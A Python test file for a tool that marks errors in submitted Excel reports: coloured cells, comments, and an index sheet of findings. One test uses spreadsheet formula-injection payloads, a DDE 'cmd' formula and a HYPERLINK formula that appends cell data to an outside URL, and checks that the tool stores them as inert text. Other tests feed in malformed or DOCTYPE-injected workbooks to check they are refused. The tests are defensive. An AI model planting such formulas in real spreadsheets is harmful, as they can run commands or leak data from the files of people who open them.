"""What goes back to a unit: its own workbook, marked; and nothing that runs, hangs or is lost."""

import io
import shutil
import subprocess
from dataclasses import replace

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment

from diaodu.intake.reader import read_workbook
from diaodu.model.submissions import Finding, Severity
from diaodu.notices.counted import MOST_LISTED
from diaodu.notices.marked import COLOURS, INDEX, marked_workbook
from tests.intake.making import GOOD, with_part, workbook

ERROR = Finding(Severity.ERROR, "text", "指标", "C5", "指标!C5 应为数字，填的是“约三百”", "填数字")
DOUBT = Finding(Severity.WARNING, "jump", "指标", "D6", "=本月是上月的12倍", "请说明")
WHOLE = Finding(Severity.WARNING, "late", None, None, "整个文件有一处疑点", "")
OFFICE = shutil.which("soffice")


def book_of(**cells):
    """A workbook of one sheet with those cells."""
    book = Workbook()
    sheet = book.active
    sheet.title = "指标"
    for place, value in cells.items():
        sheet[place] = value
    return book


def saved(book):
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def marked(raw, *findings):
    return load_workbook(io.BytesIO(marked_workbook(raw, findings, "城关镇2024年3月")))


def rows_of(book):
    return [[cell.value for cell in row] for row in book[INDEX].iter_rows(min_row=4)]


def test_wrong_cells_are_coloured_and_commented_and_listed_gravest_first_with_links():
    book = marked(saved(book_of(C5="约三百", D6=12, A1="指标")), DOUBT, WHOLE, ERROR)

    sheet = book["指标"]
    assert sheet["C5"].fill.start_color.rgb == COLOURS[Severity.ERROR]
    assert sheet["C5"].comment.text == "【错误】应为数字，填的是“约三百”\n处理：填数字"
    assert sheet["D6"].fill.start_color.rgb == COLOURS[Severity.WARNING]
    assert sheet["A1"].comment is None
    assert book.sheetnames == [INDEX, "指标"]
    assert [row[:4] for row in rows_of(book)] == [
        [1, "错误", "指标", "C5"],
        [2, "疑点", "指标", "D6"],
        [3, "疑点", "整个文件", None],
    ]
    assert book[INDEX]["D4"].hyperlink.location == "'指标'!C5"
    assert book[INDEX]["D6"].hyperlink is None


def test_two_findings_of_a_cell_share_its_comment_and_the_units_own_remark_is_kept():
    own = book_of(C5="约三百")
    own["指标"]["C5"].comment = Comment("本单位备注", "张三")

    sheet = marked(saved(own), replace(DOUBT, cell="C5"), ERROR)["指标"]

    assert sheet["C5"].comment.text.startswith("本单位备注\n【错误】")
    assert "【疑点】" in sheet["C5"].comment.text
    assert sheet["C5"].fill.start_color.rgb == COLOURS[Severity.ERROR]


def test_no_more_than_2000_are_marked_and_the_true_count_is_said():
    many = [replace(DOUBT, cell=f"B{n}", message=f"第{n}处") for n in range(1, 2_500)]

    book = marked(saved(book_of(A1="指标")), *many, ERROR)

    assert book[INDEX]["A2"].value.startswith("共2500条，只列出最重要的2000条，")
    assert len(rows_of(book)) == MOST_LISTED
    assert rows_of(book)[0][1] == "错误"


def test_findings_that_the_reader_left_out_are_counted_and_their_remark_is_no_row():
    left = replace(ERROR, cell=None, message="读取时发现34300处", unlisted=34_299)

    book = marked(saved(book_of(A1="指标")), left, ERROR)

    assert book[INDEX]["A2"].value.startswith("共34300条，只列出最重要的1条，")
    assert [row[:4] for row in rows_of(book)] == [[1, "错误", "指标", "C5"]]
    assert rows_of(book)[0][4] == "应为数字，填的是“约三百”"


def test_a_marked_cell_in_a_hidden_row_column_or_sheet_shows_and_its_comment_says_so():
    own = book_of(C5="约三百", D6=12, G9=1)
    own.create_sheet("项目")["B4"] = "甲"
    own["项目"].sheet_state = "hidden"
    own["指标"].row_dimensions[5].hidden = own["指标"].row_dimensions[9].hidden = True
    own["指标"].column_dimensions.group("C", "E", hidden=True)

    book = marked(saved(own), ERROR, DOUBT, replace(DOUBT, sheet="项目", cell="B4"))

    sheet = book["指标"]
    rows = sheet.row_dimensions
    assert (rows[5].hidden, rows[9].hidden, sheet.column_dimensions["C"].hidden) == (
        False,
        True,
        False,
    )
    assert book["项目"].sheet_state == "visible"
    assert sheet["C5"].comment.text.endswith("（所在的行、列原是隐藏的，已取消隐藏）")
    assert sheet["D6"].comment.text.endswith("（所在的列原是隐藏的，已取消隐藏）")
    assert book["项目"]["B4"].comment.text.endswith("（所在的工作表原是隐藏的，已取消隐藏）")


def test_nothing_that_is_written_is_taken_for_a_formula():
    sums = "=SUM(C1:C2)"
    reaching = '=HYPERLINK("http://example.org/?"&A1,"看")'
    own = book_of(C5=sums, C6=reaching, C7="=cmd|' /c calc'!A0", C8="x")
    own["指标"]["C8"].value = "-1+1"
    own["指标"]["C8"].data_type = "s"

    book = marked(saved(own), DOUBT)

    sheet = book["指标"]
    assert (sheet["C5"].value, sheet["C5"].data_type) == (sums, "f")
    assert (sheet["C6"].value, sheet["C6"].data_type) == ("'" + reaching, "s")
    assert sheet["C7"].data_type == "s"
    assert (sheet["C8"].value, sheet["C8"].quotePrefix) == ("-1+1", True)
    assert rows_of(book)[0][4] == "'=本月是上月的12倍"


def test_of_a_merged_range_the_cell_that_shows_is_marked():
    own = book_of(C5="约三百")
    own["指标"].merge_cells("C5:D6")

    book = marked(saved(own), replace(ERROR, cell="D6"))

    assert book["指标"]["C5"].comment is not None
    assert book[INDEX]["D4"].hyperlink.location == "'指标'!C5"


def test_the_same_input_gives_the_same_bytes():
    raw = saved(book_of(C5="约三百"))

    assert marked_workbook(raw, (ERROR, DOUBT), "城关镇") == marked_workbook(
        raw, (ERROR, DOUBT), "城关镇"
    )


def rewritten(old, new):
    return with_part(saved(book_of(A1=1)), SHEET, lambda data: data.replace(old, new))


SHEET = "xl/worksheets/sheet1.xml"
MERGED = '<mergeCells><mergeCell ref="{}"/></mergeCells></worksheet>'


@pytest.mark.parametrize(
    "raw",
    [
        b"not a workbook",
        b"PK\x03\x04truncated",
        "指标,本月\n外出,3\n".encode("gbk"),
        saved(book_of(A1=1))[:-40],
        rewritten(b"<worksheet", b"<!DOCTYPE x><worksheet"),
        rewritten(b"</sheetData>", b"</sheetDat>"),
        rewritten(b"</worksheet>", MERGED.format("A1:XFD1048576").encode()),
        rewritten(b"</worksheet>", MERGED.format("A1:&#88;FD1048576").encode()),
    ],
    ids=["text", "cut", "csv", "tail", "doctype", "broken xml", "all merged", "hidden range"],
)
def test_a_file_that_cannot_be_opened_safely_comes_back_as_the_index_alone(raw):
    book = marked(raw, ERROR)

    assert book.sheetnames == [INDEX]
    assert rows_of(book)[0][:4] == [1, "错误", "指标", "C5"]


def test_a_cell_at_the_far_corner_is_no_reason_to_fill_the_sheet():
    assert marked(saved(book_of(XFD1048576="-")), ERROR).sheetnames == [INDEX, "指标"]


@pytest.fixture(scope="module")
def returned():
    return marked_workbook(workbook(), (ERROR, DOUBT, WHOLE), "东镇2024年3月")


def test_the_marked_workbook_is_read_as_the_report_it_was(returned):
    reading = read_workbook(returned, "改正.xlsx")

    assert reading.submission == GOOD
    assert not [found for found in reading.findings if found.severity is Severity.ERROR]


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
def test_the_marked_workbook_opens_in_libreoffice_with_the_right_cells_coloured(returned, tmp_path):
    source = tmp_path / "核验意见.xlsx"
    source.write_bytes(returned)
    home = f"-env:UserInstallation=file://{tmp_path}/office"
    again = tmp_path / "again"
    command = [OFFICE, home, "--headless", "--convert-to", "xlsx", "--outdir", again, source]
    subprocess.run(command, check=True, capture_output=True, timeout=120)

    book = load_workbook(again / source.name)

    indicators = book["指标"]
    assert indicators["C5"].fill.start_color.rgb == COLOURS[Severity.ERROR]
    assert indicators["D6"].fill.start_color.rgb == COLOURS[Severity.WARNING]
    assert "约三百" in indicators["C5"].comment.text
    assert book.sheetnames[0] == INDEX
    assert book[INDEX]["D4"].hyperlink.location.replace("#", "") in {"'指标'!C5", "指标!C5"}
